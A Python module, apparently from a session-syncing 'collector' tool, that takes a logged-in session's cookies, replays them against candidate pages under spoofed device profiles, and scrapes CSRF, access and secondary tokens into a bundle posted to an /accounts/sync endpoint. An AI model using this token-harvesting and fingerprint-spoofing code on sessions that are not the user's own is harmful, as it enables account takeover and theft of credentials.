"""
Credential harvester.

Walks an ordered list of candidate surfaces, each fetched with its own
request profile, and runs extractor chains over every body that loads. A
csrf token marks an authoritative surface and stops the walk. If no access
token turned up, one in-context probe is tried as a last resort.

Only a missing local login is fatal. Unreachable candidates, error statuses,
degraded pages and login redirects are logged and skipped; a bundle with
nothing but the cookie blob is a valid result.
"""

from __future__ import annotations

import logging
from collections.abc import Sequence
from dataclasses import dataclass, field
from enum import StrEnum
from typing import Any, Protocol

import httpx

from collector.config import Candidate, TargetSettings
from collector.errors import ExtractionError, ExtractionMiss, UpstreamFetchError
from collector.extractors import (
    Extractor,
    access_token_chain,
    csrf_chain,
    run_chain,
    secondary_chain,
)
from collector.profiles import fingerprint_for, headers_for
from collector.session import LocalSession

logger = logging.getLogger(__name__)

DEGRADED_MARKERS = ("WAPFORUM", "<!DOCTYPE wml", "<wml")
LOGIN_FORM_MARKERS = ('id="login_form"', 'name="login_form"', 'action="/login')


class ExtractionMethod(StrEnum):
    COOKIE_ONLY = "cookie_only"
    PAGE_SCRAPE = "page_scrape"
    IN_CONTEXT_INJECTION = "in_context_injection"


@dataclass
class CredentialBundle:
    """Session artifacts harvested in one run. Sent to /accounts/sync, never stored."""

    external_id: str
    session_cookie_blob: str
    access_token: str | None = None
    csrf_token: str | None = None
    secondary_tokens: dict[str, str] = field(default_factory=dict)
    device_fingerprint: dict[str, Any] | None = None
    extraction_method: ExtractionMethod = ExtractionMethod.COOKIE_ONLY

    @property
    def needs_supplementary_auth(self) -> bool:
        return self.access_token is None

    def to_payload(self, display_name: str | None = None) -> dict[str, Any]:
        """Request body for POST /accounts/sync. Absent values are omitted."""
        payload: dict[str, Any] = {
            "externalId": self.external_id,
            "sessionCookieBlob": self.session_cookie_blob,
            "extractionMethod": self.extraction_method.value,
            "needsSupplementaryAuth": self.needs_supplementary_auth,
        }
        if display_name:
            payload["displayName"] = display_name
        if self.access_token:
            payload["accessToken"] = self.access_token
        if self.csrf_token:
            payload["csrfToken"] = self.csrf_token
        if self.secondary_tokens:
            payload["secondaryTokens"] = dict(self.secondary_tokens)
        if self.device_fingerprint:
            payload["deviceFingerprint"] = self.device_fingerprint
        return payload


class InContextProbe(Protocol):
    """
    Last-resort lookup of a cached access token inside a live page context.

    The CLI runs detached and uses DetachedProbe; a host that drives a real
    rendering context passes its own probe to CredentialHarvester.
    """

    async def find_access_token(self) -> str | None: ...


class DetachedProbe:
    """Used when running as a detached fetcher: there is no page to look into."""

    async def find_access_token(self) -> str | None:
        return None


def is_degraded(body: str) -> bool:
    return any(marker in body for marker in DEGRADED_MARKERS)


def is_login_redirect(response: httpx.Response) -> bool:
    path = response.url.path
    if path == "/login" or path.startswith("/login/") or path.startswith("/login."):
        return True
    return any(marker in response.text for marker in LOGIN_FORM_MARKERS)


class CredentialHarvester:
    """Runs the candidate walk for one target."""

    def __init__(
        self,
        target: TargetSettings,
        probe: InContextProbe | None = None,
        transport: httpx.AsyncBaseTransport | None = None,
    ):
        self.target = target
        self.probe = probe or DetachedProbe()
        self._transport = transport
        self._csrf_chain: list[Extractor] = csrf_chain(target.csrf_field)
        self._access_chain: list[Extractor] = access_token_chain(
            target.access_token_field, target.access_token_prefix
        )
        self._secondary_chains: dict[str, list[Extractor]] = {
            name: secondary_chain(name) for name in target.secondary_fields
        }

    async def _fetch(self, client: httpx.AsyncClient, candidate: Candidate, cookie: str) -> httpx.Response:
        headers = headers_for(candidate.profile)
        headers["Cookie"] = cookie
        try:
            response = await client.get(candidate.url, headers=headers)
            response.raise_for_status()
        except httpx.HTTPStatusError as e:
            raise UpstreamFetchError(candidate.url, f"HTTP {e.response.status_code}") from e
        except httpx.HTTPError as e:
            raise UpstreamFetchError(candidate.url, type(e).__name__) from e
        return response

    def _extract(self, kind: str, chain: Sequence[Extractor], body: str, url: str) -> str | None:
        value = run_chain(chain, body)
        if value is None:
            logger.debug("%s", ExtractionMiss(kind, url))
        return value

    async def acquire_credential_bundle(self, local_session: LocalSession) -> CredentialBundle:
        """
        Harvest a CredentialBundle for a logged-in local session.

        Raises:
            ExtractionError: If the local session is not logged in
        """
        if not local_session.logged_in:
            raise ExtractionError(
                ExtractionError.NOT_LOGGED_IN,
                f"No {self.target.identity_cookie}/{self.target.session_cookie} cookies for {self.target.domain}",
            )

        bundle = CredentialBundle(
            external_id=local_session.identity_id,
            session_cookie_blob=local_session.raw_cookie_string,
        )

        async with httpx.AsyncClient(
            timeout=self.target.timeout_seconds,
            follow_redirects=True,
            transport=self._transport,
        ) as client:
            for candidate in self.target.candidates:
                try:
                    response = await self._fetch(client, candidate, local_session.raw_cookie_string)
                except UpstreamFetchError as e:
                    logger.warning("Skipping candidate: %s", e)
                    continue

                if bundle.device_fingerprint is None:
                    bundle.device_fingerprint = fingerprint_for(candidate.profile)

                body = response.text
                if is_degraded(body):
                    logger.warning("Degraded surface from %s, trying next candidate", candidate.url)
                    continue
                if is_login_redirect(response):
                    logger.warning("Login redirect from %s, trying next candidate", candidate.url)
                    continue

                csrf = self._extract("csrf", self._csrf_chain, body, candidate.url)
                if bundle.csrf_token is None and csrf:
                    bundle.csrf_token = csrf

                for name, chain in self._secondary_chains.items():
                    if name in bundle.secondary_tokens:
                        continue
                    value = self._extract(name, chain, body, candidate.url)
                    if value:
                        bundle.secondary_tokens[name] = value

                if bundle.access_token is None:
                    token = self._extract("access_token", self._access_chain, body, candidate.url)
                    if token:
                        bundle.access_token = token
                        bundle.extraction_method = ExtractionMethod.PAGE_SCRAPE

                if csrf:
                    logger.info("csrf token found on %s, stopping", candidate.url)
                    break

        if bundle.device_fingerprint is None and self.target.candidates:
            # nothing answered; report the profile the walk started with
            bundle.device_fingerprint = fingerprint_for(self.target.candidates[0].profile)

        if bundle.access_token is None:
            token = await self.probe.find_access_token()
            if token:
                bundle.access_token = token
                bundle.extraction_method = ExtractionMethod.IN_CONTEXT_INJECTION

        logger.info(
            "Harvested %s: method=%s csrf=%s secondary=%d",
            bundle.external_id,
            bundle.extraction_method,
            bundle.csrf_token is not None,
            len(bundle.secondary_tokens),
        )
        return bundle
